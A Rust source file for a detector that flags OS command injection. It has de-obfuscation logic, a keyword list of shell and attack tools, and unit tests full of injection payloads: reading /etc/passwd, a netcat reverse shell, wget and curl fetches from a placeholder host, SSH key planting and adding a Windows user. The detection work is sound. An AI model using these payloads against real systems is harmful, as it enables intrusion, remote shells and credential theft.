//! OS command injection by shell syntax. The value is read the way a shell would read it:
//! command positions follow a separator (`;`, `|`, `||`, `&`, `&&`, a newline), open a
//! substitution (`$(`, a backtick) or a brace group; the word there is de-obfuscated
//! (quotes, backslashes, `$@`, `${x}`, `^`, `$IFS` and globs like `/???/c?t`) and looked up.
//!
//! Many commands are also English words ("cat", "sleep", "echo", "find"). Those count only
//! with a shell-shaped first argument (an option, a path, a number where the command takes
//! one, a variable, a redirect) or alone right after a pipe or `&&`. Prose with a semicolon
//! ("cat food; grain free", "Apt #4; Floor 2") and markdown code spans ("run `ls -la`") are
//! not commands.

/// Literals that gate the parser: separators, substitutions, braces, `$IFS`, and the
/// functions that hand a string to a shell.
pub const LITERALS: &[&str] = &[
    ";",
    "|",
    "&",
    "`",
    "$(",
    "\n",
    "\r",
    "{",
    "$ifs",
    "system",
    "exec",
    "popen",
    "passthru",
    "spawn",
    "check_output",
    "getoutput",
];

/// Functions (PHP, Python, Perl, Ruby, Node, Java) whose string argument is a command line.
const SHELL_FUNCTIONS: &[&str] = &[
    "system",
    "exec",
    "shell_exec",
    "passthru",
    "popen",
    "proc_open",
    "execsync",
    "spawn",
    "spawnsync",
    "execfile",
    "check_output",
    "getoutput",
];

/// How a command's arguments must look for it to count.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Class {
    /// Not an English word: any arguments, or none.
    Binary,
    /// A word people also write: needs a shell-shaped argument (or stands alone after `|`).
    Word,
    /// Like [`Class::Word`], but also counts standing alone between separators (`;id;`):
    /// short commands that prose does not put there.
    Standalone,
    /// Takes a number: `sleep 5`, `ping -c 3`, `kill -9 1`.
    Numeric,
    /// Takes a host: `ping 10.0.0.1`, `nslookup x.example`, `curl http://...`.
    Network,
    /// A Windows built-in with a required sub-command: `net user`, `reg query`.
    SubCommand(&'static [&'static str]),
}

fn command_class(name: &[u8]) -> Option<Class> {
    if name.len() > 16 || name.is_empty() {
        return None;
    }
    let mut buf = [0u8; 16];
    let lower = &mut buf[..name.len()];
    lower.copy_from_slice(name);
    lower.make_ascii_lowercase();
    let lower: &[u8] = lower.strip_suffix(b".exe").unwrap_or(lower);
    match lower {
        b"whoami" | b"uname" | b"ifconfig" | b"ipconfig" | b"netstat" | b"nslookup"
        | b"systeminfo" | b"tasklist" | b"taskkill" | b"certutil" | b"bitsadmin" | b"mkfifo"
        | b"socat" | b"ncat" | b"netcat" | b"wget" | b"powershell" | b"pwsh" | b"printenv"
        | b"xterm" | b"telnet" | b"tftp" | b"chmod" | b"chown" | b"nohup" | b"crontab"
        | b"useradd" | b"usermod" | b"bash" | b"zsh" | b"ksh" | b"csh" | b"tcsh" | b"busybox"
        | b"python2" | b"python3" | b"gawk" | b"nawk" | b"awk" | b"openssl" | b"base64"
        | b"xxd" | b"wmic" | b"regsvr32" | b"rundll32" | b"mshta" | b"cscript" | b"wscript"
        | b"schtasks" | b"getent" | b"uptime" | b"sysinfo" | b"pwd" | b"hostname"
        | b"lsb_release" | b"sysctl" | b"traceroute" | b"tracert" | b"whois" | b"smbclient"
        | b"killall" | b"pkill" | b"iptables" | b"systemctl" | b"vssadmin" | b"bcdedit"
        | b"msiexec" | b"fsutil" | b"nltest" | b"dsquery" | b"jrunscript" | b"osascript"
        | b"passwd" | b"sh" | b"cmd" | b"ifdown" | b"ifup" | b"dmesg" | b"lsof" | b"id" | b"ls"
        | b"wc" | b"sudo" | b"chattr" | b"setfacl" | b"nmap" | b"tcpdump" | b"gcc"
        | b"uudecode" | b"php" | b"perl" | b"ruby" | b"python" | b"node" | b"lua" | b"dir"
        | b"cat" | b"type" | b"env" | b"ps" | b"rm" | b"cp" | b"mv" | b"ln" | b"tar" | b"zip"
        | b"unzip" | b"touch" | b"mkdir" | b"rmdir" | b"echo" | b"printf" | b"head" | b"tail"
        | b"more" | b"less" | b"grep" | b"egrep" | b"sed" | b"find" | b"tee" | b"xargs"
        | b"export" | b"set" | b"eval" | b"exec" | b"source" | b"mail" | b"sort" | b"cut"
        | b"file" | b"stat" | b"du" | b"df" | b"last" | b"who" | b"w" | b"su" | b"ssh" | b"scp"
        | b"ftp" | b"java" | b"curl" | b"dig" | b"host" | b"nc" | b"ping" | b"sleep"
        | b"timeout" | b"usleep" | b"kill" | b"net" | b"reg" | b"sc" | b"start" | b"copy"
        | b"del" | b"erase" | b"move" | b"ren" | b"call" | b"shutdown" | b"reboot" => {
            Some(word_class(lower))
        }
        _ => None,
    }
}

/// Refines the class of commands that are also words or take specific arguments.
fn word_class(lower: &[u8]) -> Class {
    match lower {
        b"sleep" | b"timeout" | b"usleep" | b"kill" => Class::Numeric,
        b"id" | b"ls" | b"ps" | b"env" | b"pwd" | b"dir" | b"set" => Class::Standalone,
        b"ping" | b"curl" | b"dig" | b"host" | b"nc" | b"ssh" | b"scp" | b"ftp" | b"telnet" => {
            Class::Network
        }
        b"net" => Class::SubCommand(&[
            "user",
            "users",
            "localgroup",
            "group",
            "view",
            "share",
            "use",
            "start",
            "stop",
            "accounts",
            "session",
        ]),
        b"reg" => Class::SubCommand(&["add", "query", "delete", "save", "export", "import"]),
        b"sc" => Class::SubCommand(&["query", "create", "config", "start", "stop", "delete"]),
        b"whoami" | b"uname" | b"ifconfig" | b"ipconfig" | b"netstat" | b"nslookup"
        | b"systeminfo" | b"tasklist" | b"taskkill" | b"certutil" | b"bitsadmin" | b"mkfifo"
        | b"socat" | b"ncat" | b"netcat" | b"wget" | b"powershell" | b"pwsh" | b"printenv"
        | b"xterm" | b"tftp" | b"chmod" | b"chown" | b"nohup" | b"crontab" | b"useradd"
        | b"usermod" | b"bash" | b"zsh" | b"ksh" | b"csh" | b"tcsh" | b"busybox" | b"python2"
        | b"python3" | b"gawk" | b"nawk" | b"openssl" | b"xxd" | b"wmic" | b"regsvr32"
        | b"rundll32" | b"mshta" | b"cscript" | b"wscript" | b"schtasks" | b"getent"
        | b"uptime" | b"lsb_release" | b"sysctl" | b"traceroute" | b"tracert" | b"smbclient"
        | b"killall" | b"pkill" | b"iptables" | b"systemctl" | b"vssadmin" | b"bcdedit"
        | b"msiexec" | b"fsutil" | b"nltest" | b"dsquery" | b"jrunscript" | b"osascript"
        | b"sysinfo" | b"lsof" | b"dmesg" | b"tcpdump" | b"uudecode" | b"chattr" | b"setfacl"
        | b"sh" | b"base64" => Class::Binary,
        _ => Class::Word,
    }
}

/// Commands written before the real one: `sudo`, `nohup`, `exec`.
fn is_prefix(name: &[u8]) -> bool {
    [
        "sudo", "nohup", "exec", "command", "builtin", "time", "nice", "xargs",
    ]
    .iter()
    .any(|p| super::eq_word(name, p))
}

/// A shell word after quote and escape removal, on the stack.
struct Word {
    buf: [u8; 64],
    len: usize,
}

impl Word {
    fn as_slice(&self) -> &[u8] {
        &self.buf[..self.len]
    }

    fn push(&mut self, b: u8) {
        if self.len < self.buf.len() {
            self.buf[self.len] = b;
            self.len += 1;
        }
    }

    fn extend(&mut self, bytes: &[u8]) {
        for &b in bytes {
            self.push(b);
        }
    }
}

/// Where a command position came from: it decides how much evidence a plain word needs.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Opener {
    /// `;` or a single `&`: also punctuation in prose.
    Weak,
    /// `|`, `||`, `&&`, a newline: shell, rarely prose.
    Strong,
    /// `$(`, a backtick substitution, `{cmd,arg}`: only shells write these.
    Substitution,
}

/// Bytes that may open a command position (a table: the scan below runs over whole values).
static OPENS: [u8; 256] = {
    let mut t = [0; 256];
    let bytes = b";&|\n\r$`{";
    let mut i = 0;
    while i < bytes.len() {
        t[bytes[i] as usize] = 1;
        i += 1;
    }
    t
};

/// The first byte at or after `from` that may open a command position. Eight bytes are
/// tested per step with one branch: prose has few openers, and this scan reads all of it.
fn next_opener(value: &[u8], from: usize) -> Option<usize> {
    let rest = value.get(from..)?;
    let mut chunks = rest.chunks_exact(8);
    let mut at = from;
    for c in &mut chunks {
        if crate::bytes::classes_of_eight(&OPENS, c) != 0 {
            break;
        }
        at += 8;
    }
    value[at..]
        .iter()
        .position(|&b| OPENS[usize::from(b)] != 0)
        .map(|p| at + p)
}

/// The detector.
pub fn detect(value: &[u8]) -> Option<(usize, usize)> {
    let fences = code_fences(value);
    let mut i = 0;
    while let Some(next) = next_opener(value, i) {
        i = next;
        let b = value[i];
        // Lines inside a markdown code fence are documentation, not input to a shell.
        if matches!(b, b'\n' | b'\r') && fences.iter().any(|&(a, z)| a < i && i < z) {
            i += 1;
            continue;
        }
        let opener = match b {
            b';' => Some((Opener::Weak, i + 1)),
            b'&' if value.get(i + 1) == Some(&b'&') => Some((Opener::Strong, i + 2)),
            b'&' => Some((Opener::Weak, i + 1)),
            b'|' if value.get(i + 1) == Some(&b'|') => Some((Opener::Strong, i + 2)),
            b'|' => Some((Opener::Strong, i + 1)),
            b'\n' | b'\r' => Some((Opener::Strong, i + 1)),
            b'$' if value.get(i + 1) == Some(&b'(') && value.get(i + 2) != Some(&b'(') => {
                Some((Opener::Substitution, i + 2))
            }
            b'`' if backtick_is_substitution(value, i) => Some((Opener::Substitution, i + 1)),
            b'{' if brace_group(value, i) => Some((Opener::Substitution, i + 1)),
            _ => None,
        };
        if let Some((opener, at)) = opener {
            if let Some(end) = command_at(value, at, opener) {
                return Some((i, end));
            }
            i = at;
            continue;
        }
        i += 1;
    }
    if let Some(found) = shell_function_argument(value) {
        return Some(found);
    }
    // The whole value as a command line: only when it is nothing but a command with
    // shell-shaped arguments and then more shell syntax ("cat$IFS/etc/passwd").
    if memchr::memchr_iter(b'$', value).any(|i| ifs_len(&value[i..]).is_some()) {
        return command_at(value, 0, Opener::Strong).map(|end| (0, end));
    }
    None
}

/// The spans between pairs of markdown code fences (```), at most a few.
fn code_fences(value: &[u8]) -> Vec<(usize, usize)> {
    let mut spans = Vec::new();
    if memchr::memmem::find(value, b"```").is_none() {
        return spans;
    }
    let marks: Vec<usize> = memchr::memmem::find_iter(value, b"```").take(16).collect();
    for pair in marks.chunks(2) {
        if let [open, close] = pair {
            spans.push((*open, *close));
        }
    }
    spans
}

/// `system('id')`, `os.popen("cat /etc/passwd")`, `exec('curl ...')`: the quoted argument
/// of a function that runs a shell, read as a command line.
fn shell_function_argument(value: &[u8]) -> Option<(usize, usize)> {
    let mut i = 0;
    while let Some(p) = memchr::memchr(b'(', &value[i..]) {
        let open = i + p;
        i = open + 1;
        let name_start = value[..open]
            .iter()
            .rposition(|b| !(b.is_ascii_alphanumeric() || *b == b'_'))
            .map_or(0, |s| s + 1);
        let name = &value[name_start..open];
        if !SHELL_FUNCTIONS.iter().any(|f| super::eq_word(name, f)) {
            continue;
        }
        let mut arg = open + 1;
        while value.get(arg).is_some_and(u8::is_ascii_whitespace) {
            arg += 1;
        }
        // The argument is a string: '...', "...", `...` or a list's first element ["id"].
        if value.get(arg) == Some(&b'[') {
            arg += 1;
        }
        let Some(&quote @ (b'\'' | b'"' | b'`')) = value.get(arg) else {
            continue;
        };
        let inner_start = arg + 1;
        let inner_end = value[inner_start..]
            .iter()
            .position(|&b| b == quote)
            .map_or(value.len(), |e| inner_start + e);
        let inner = &value[inner_start..inner_end];
        if let Some(end) = command_at(inner, 0, Opener::Strong) {
            return Some((name_start, inner_start + end));
        }
    }
    None
}

/// A backtick opens a substitution unless it is a markdown code span in prose: a span
/// attached to a word (`x`id``), right after a separator or `=`, or the whole value is one.
/// Runs of backticks are code fences.
fn backtick_is_substitution(value: &[u8], at: usize) -> bool {
    if value.get(at + 1) == Some(&b'`') || (at > 0 && value[at - 1] == b'`') {
        return false;
    }
    let Some(close) = memchr::memchr(b'`', &value[at + 1..]) else {
        return at == 0 || !value[at - 1].is_ascii_whitespace();
    };
    let close = at + 1 + close;
    let before = value[..at].iter().rev().find(|b| !b.is_ascii_whitespace());
    let attached = at > 0 && !value[at - 1].is_ascii_whitespace();
    let whole = before.is_none() && value[close + 1..].iter().all(|b| b.is_ascii_whitespace());
    let after_separator = matches!(
        before,
        Some(b';' | b'|' | b'&' | b'=' | b'(' | b'\'' | b'"')
    );
    attached || whole || after_separator
}

/// `{cmd,arg}` (brace expansion: a comma, no spaces) or `{ cmd; }` (a group: `;` before the
/// closing brace). GraphQL selections and JSON objects are neither.
fn brace_group(value: &[u8], at: usize) -> bool {
    let rest = &value[at + 1..];
    let Some(end) = rest.iter().position(|&b| b == b'}') else {
        return false;
    };
    let inner = &rest[..end];
    let expansion = inner.contains(&b',') && !inner.iter().any(u8::is_ascii_whitespace);
    let group = crate::targets::trim(inner).ends_with(b";");
    expansion || group
}

/// Reads a command at `pos`; returns the end of the evidence if it is one.
fn command_at(value: &[u8], mut pos: usize, opener: Opener) -> Option<usize> {
    for _ in 0..3 {
        pos = skip_blanks(value, pos);
        // `!`, `(` and `{` open groups or negate: the command follows.
        while matches!(value.get(pos), Some(b'(' | b'{' | b'!')) {
            pos = skip_blanks(value, pos + 1);
        }
        let (word, end) = read_word(value, pos)?;
        let word = word.as_slice();
        if word.is_empty() {
            return None;
        }
        let name = basename(word);
        if is_prefix(name) {
            // `sudo -u root id`: a prefix with options is a command line by itself.
            if value.get(skip_blanks(value, end)) == Some(&b'-') {
                return Some(arg_end(value, skip_blanks(value, end)));
            }
            pos = end;
            continue;
        }
        let class = match command_class(name) {
            Some(c) => c,
            None => glob_command(name)?,
        };
        let path_qualified = word.len() > name.len();
        let args = skip_blanks(value, end);
        let evidence_end = arg_end(value, args).max(end);
        let ok = match opener {
            // Inside $( ) or a substitution backtick: a known command is enough.
            Opener::Substitution => true,
            _ if path_qualified => true,
            Opener::Strong | Opener::Weak => arguments_fit(value, end, class, opener),
        };
        return ok.then_some(evidence_end);
    }
    None
}

fn skip_blanks(value: &[u8], mut pos: usize) -> usize {
    loop {
        match value.get(pos) {
            Some(b' ' | b'\t' | 0x0b | 0x0c) => pos += 1,
            Some(b'$') => match ifs_len(&value[pos..]) {
                Some(n) => pos += n,
                None => return pos,
            },
            _ => return pos,
        }
    }
}

/// `$IFS`, `${IFS}`, `$IFS$9`: the field separator used as a space.
fn ifs_len(s: &[u8]) -> Option<usize> {
    let ci = |p: &[u8]| s.len() >= p.len() && s[..p.len()].eq_ignore_ascii_case(p);
    let n = if ci(b"${ifs}") {
        6
    } else if ci(b"$ifs") {
        4
    } else {
        return None;
    };
    // A positional parameter glued on ($IFS$9) expands to nothing.
    if s.get(n) == Some(&b'$') && s.get(n + 1).is_some_and(u8::is_ascii_digit) {
        return Some(n + 2);
    }
    Some(n)
}

/// Reads one shell word from `pos`, removing what the shell would remove: quotes,
/// backslashes, empty expansions (`$@`, `$*`, `$1`, `${x}`, `$()`), Windows carets.
/// Returns the word and the position after it.
fn read_word(value: &[u8], mut pos: usize) -> Option<(Word, usize)> {
    let mut word = Word {
        buf: [0; 64],
        len: 0,
    };
    while pos < value.len() && word.len < word.buf.len() {
        let b = value[pos];
        match b {
            b'\'' | b'"' => {
                let close = value[pos + 1..].iter().position(|&c| c == b)?;
                word.extend(&value[pos + 1..pos + 1 + close]);
                pos += close + 2;
            }
            // `\n`, `\r`, `\t` written out: a line break or tab once unescaped, so the word ends.
            b'\\' if matches!(value.get(pos + 1), Some(b'n' | b'r' | b't')) => break,
            b'\\' if value.get(pos + 1).is_some_and(u8::is_ascii_alphanumeric) => pos += 1,
            b'^' => pos += 1,
            b'$' => {
                let rest = &value[pos..];
                if ifs_len(rest).is_some() {
                    break;
                }
                match rest.get(1) {
                    Some(b'@' | b'*' | b'0'..=b'9') => pos += 2,
                    Some(b'(') if rest.get(2) == Some(&b')') => pos += 3,
                    Some(b'{') => {
                        let close = rest.iter().position(|&c| c == b'}')?;
                        pos += close + 1;
                    }
                    _ => break,
                }
            }
            b' ' | b'\t' | b'\n' | b'\r' | b';' | b'|' | b'&' | b'<' | b'>' | b'(' | b')'
            | b'`' | b'{' | b'}' | b',' | 0x0b | 0x0c => break,
            _ => {
                word.push(b);
                pos += 1;
            }
        }
    }
    Some((word, pos))
}

/// The program name without its directory: `/usr/bin/id` -> `id`, `C:\x\cmd.exe` -> `cmd.exe`.
fn basename(word: &[u8]) -> &[u8] {
    match word.iter().rposition(|&b| b == b'/' || b == b'\\') {
        Some(p) => &word[p + 1..],
        None => word,
    }
}

/// `c?t`, `wh*mi`, `/???/c?t`: a glob that matches one of the commands people hide this way.
fn glob_command(name: &[u8]) -> Option<Class> {
    if !name.iter().any(|&b| b == b'?' || b == b'*') {
        return None;
    }
    const HIDDEN: &[&str] = &[
        "cat", "nc", "ncat", "netcat", "bash", "sh", "wget", "curl", "whoami", "id", "ls", "uname",
        "python", "python3", "perl", "passwd", "ping", "nslookup",
    ];
    HIDDEN
        .iter()
        .any(|c| glob_match(name, c.as_bytes()))
        .then_some(Class::Binary)
}

fn glob_match(pattern: &[u8], text: &[u8]) -> bool {
    match (pattern.split_first(), text.split_first()) {
        (None, None) => true,
        (Some((b'*', rest)), _) => {
            glob_match(rest, text) || (!text.is_empty() && glob_match(pattern, &text[1..]))
        }
        (Some((b'?', rest)), Some((_, t))) => glob_match(rest, t),
        (Some((p, rest)), Some((c, t))) if p.eq_ignore_ascii_case(c) => glob_match(rest, t),
        _ => false,
    }
}

/// End of the first argument (for the evidence range).
fn arg_end(value: &[u8], pos: usize) -> usize {
    let mut end = pos;
    while end < value.len() && !matches!(value[end], b' ' | b'\t' | b';' | b'|' | b'&' | b'\n') {
        end += 1;
    }
    end
}

/// Do the arguments after a command word (ending at `end`) look like a shell command line?
fn arguments_fit(value: &[u8], end: usize, class: Class, opener: Opener) -> bool {
    let glued = value.get(end).copied();
    let pos = skip_blanks(value, end);
    let spaced = pos > end;
    let alone_ok = matches!(class, Class::Binary | Class::Standalone) || opener == Opener::Strong;
    let Some(&first) = value.get(pos) else {
        // The command alone at the end: `; id`, `| whoami`.
        return alone_ok;
    };
    // An escaped line break (`\n` written out) ends the command like a real one.
    if first == b'\\' && matches!(value.get(pos + 1), Some(b'n' | b'r')) {
        return alone_ok;
    }
    // A redirect, pipe or separator right after the command.
    if matches!(
        first,
        b'<' | b'>' | b'|' | b'&' | b';' | b'`' | b')' | b'\n'
    ) {
        return alone_ok || matches!(first, b'<' | b'>');
    }
    if glued.is_some_and(|g| g == b'$') && !spaced {
        return ifs_len(&value[end..]).is_some() || class == Class::Binary;
    }
    if !spaced && !matches!(glued, Some(b'{')) {
        return false; // `cats`, `ls400`: part of a longer word
    }
    let parsed = read_word(value, pos);
    let arg = parsed.as_ref().map_or(&b""[..], |(w, _)| w.as_slice());
    let raw = &value[pos..];
    let arg_starts_shell = matches!(
        first,
        b'-' | b'/' | b'~' | b'$' | b'%' | b'\'' | b'"' | b'*' | b'{' | b'\\'
    ) || raw.starts_with(b"./")
        || raw.starts_with(b"../")
        || (raw.len() > 2
            && raw[0].is_ascii_alphabetic()
            && raw[1] == b':'
            && matches!(raw[2], b'\\' | b'/'));
    // `--` followed by a space is a dash in prose, not an option.
    let prose_dash = first == b'-'
        && matches!(value.get(pos + 1), Some(b'-' | b' '))
        && matches!(value.get(pos + 2), Some(b' ') | None);
    let shellish = arg_starts_shell && !prose_dash;
    match class {
        Class::Binary => true,
        Class::Word | Class::Standalone => shellish,
        Class::Numeric => {
            shellish
                || (!arg.is_empty()
                    && arg.iter().all(u8::is_ascii_digit)
                    && ends_after(value, pos, arg))
        }
        Class::Network => shellish || looks_like_host(arg),
        Class::SubCommand(subs) => subs.iter().any(|s| arg.eq_ignore_ascii_case(s.as_bytes())),
    }
}

/// A numeric argument that ends the command (`sleep 5`, `sleep 5;`), not a quantity in prose
/// ("sleep 8 hours").
fn ends_after(value: &[u8], pos: usize, arg: &[u8]) -> bool {
    let after = skip_blanks(value, pos + arg.len());
    match value.get(after) {
        None => true,
        Some(&c) => {
            matches!(
                c,
                b';' | b'|' | b'&' | b'`' | b')' | b'#' | b'\n' | b'>' | b'<' | b'-' | b'\'' | b'"'
            ) || c.is_ascii_digit()
        }
    }
}

/// An IP address, `host.domain` or a URL.
fn looks_like_host(arg: &[u8]) -> bool {
    let dots = arg.iter().filter(|&&b| b == b'.').count();
    dots >= 1
        && arg.len() >= 4
        && arg
            .iter()
            .all(|&b| b.is_ascii_alphanumeric() || matches!(b, b'.' | b'-' | b':' | b'/' | b'_'))
        && !arg.ends_with(b".")
}

#[cfg(test)]
mod tests {
    use super::{detect, next_opener};

    #[test]
    fn opener_scan_finds_what_a_byte_by_byte_scan_finds() {
        let text =
            b"Lorem ipsum dolor sit amet; consectetur & adipiscing\nelit | sed $(do) `x` {a,b}\r.";
        for len in 0..=text.len() {
            let value = &text[..len];
            for from in 0..=len + 1 {
                let naive = value
                    .get(from..)
                    .and_then(|r| r.iter().position(|b| b";&|\n\r$`{".contains(b)))
                    .map(|p| from + p);
                assert_eq!(next_opener(value, from), naive, "{len} {from}");
            }
        }
    }

    fn all_hit(values: &[&str]) {
        crate::detect::check::all_hit(detect, values);
    }

    fn none_hit(values: &[&str]) {
        crate::detect::check::none_hit(detect, values);
    }

    #[test]
    fn separators_and_commands() {
        all_hit(&[
            "127.0.0.1; cat /etc/passwd",
            "x | id",
            "x || whoami",
            "x && uname -a",
            "a&&ls -l /var/www",
            "; sleep 10 #",
            "| ping -n 21 127.0.0.1",
            "; ping 10.0.0.5",
            "& type C:\\Windows\\win.ini",
            "| dir C:\\",
            "& net user hacker P@ss /add",
            "| cmd /c whoami",
            "& ipconfig /all",
            "| systeminfo",
            "; /usr/bin/id",
            "; nc -e /bin/sh 10.0.0.5 4444",
            "| curl http://x.example/a",
            "; wget -qO- http://x.example/s.sh",
            "\nid\n",
            "x\ncat /etc/hosts",
            "; rm -rf /tmp/x",
            "; echo 'ssh-rsa AAAA' >> ~/.ssh/authorized_keys",
            "| tee /var/www/html/x.php",
            "; find / -perm -4000",
            "a\"; id; echo \"",
            "';id;'",
            "1;ls -al | mail x@example.net",
            "; sudo -u root id",
            "| base64 -d",
            "; python3 -c 'import os'",
            "; perl -e 'print 1'",
            "||ping -c 10 127.0.0.1||",
            "; kill -9 1",
            "; sleep 5",
        ]);
    }

    #[test]
    fn substitutions_and_evasions() {
        all_hit(&[
            "`id`",
            "$(whoami)",
            "x`whoami`y",
            "$(sleep 6)",
            "$(cat /etc/passwd)",
            "$(curl -s http://x.example/p)",
            "a;ls${IFS}-la${IFS}/",
            "{cat,/etc/shadow}",
            ";c'a't /etc/hosts",
            ";w\\ho\\am\\i",
            "|/???/??t /???/p??s??",
            "; cat$IFS$9/etc/passwd",
            "cat${IFS}/etc/passwd",
            ";uname${IFS}-a",
            ";wh$()oami",
            ";who$@ami",
            "& w^h^o^a^m^i",
            "; c\"a\"t /etc/passwd",
            ";{echo,aGVsbG8=}|{base64,-d}",
            "name=`id`",
            "; /bin/ca? /etc/passwd",
            "{ id; }",
            "{ls,-la,/}",
            "a;id\\n",
            "; sysinfo",
            "system('cat /etc/passwd');",
            "<?php system(\"wget https://x.example/a\");?>",
            "__import__('os').popen('id').read()",
            "require('child_process').execSync('whoami')",
            "subprocess.check_output(['ls', '-la'])",
        ]);
    }

    #[test]
    fn prose_and_code_pass() {
        none_hit(&[
            "cat food; grain free",
            "Good morning; cat lovers welcome",
            "Apt #4; Floor 2, 77 Main St",
            "Calle 5; apt 3",
            "Ben & Jerry's",
            "Tom & Jerry; sleep tight",
            "Fish & chips; echo chamber",
            "bring drinks; ping me later",
            "Leave at door; ring twice",
            "sleep 8 hours",
            "how to kill a process in linux",
            "find my phone",
            "set the table",
            "echo dot 5th gen",
            "ls 400 sedan",
            "rock & roll t-shirts",
            "50% off | sale",
            "Works on Windows 10 & 11, not XP",
            "Ran `npm install` and it worked",
            "To reset: `rm -rf ~/.cache/app` then restart the app.",
            "Example: `if (a && b || c) { return; }`",
            "Steps: open settings -> privacy -> clear cache & cookies",
            "Price: $10 & $12; more soon",
            "Hello {name}, your order {order} ships {date}.",
            "Use {{first_name}} placeholders",
            "a || b",
            "x; y; z",
            "Q&A; more questions",
            "Smith & Wesson; type 2",
            "salt & pepper; sort by price",
            "$('#cart').show()",
            "Version 2.0 -- see CHANGELOG.md; breaking: `--legacy` flag removed",
            "AT&T; id card required",
            "Call 555-0100 & wait",
            "Fragile; head first",
            "Meeting @ 5; w/ John",
            "{ products(first: 20, filter: {category: \"toys\"}) { nodes { id title price } } }",
            "query GetUser($id: ID!) { user(id: $id) { id name email } }",
            "{\"a\":1,\"b\":[2,3]}",
            "the system ('cat food') was great",
            "exec('the plan')",
            "call('more info')",
        ]);
    }
}
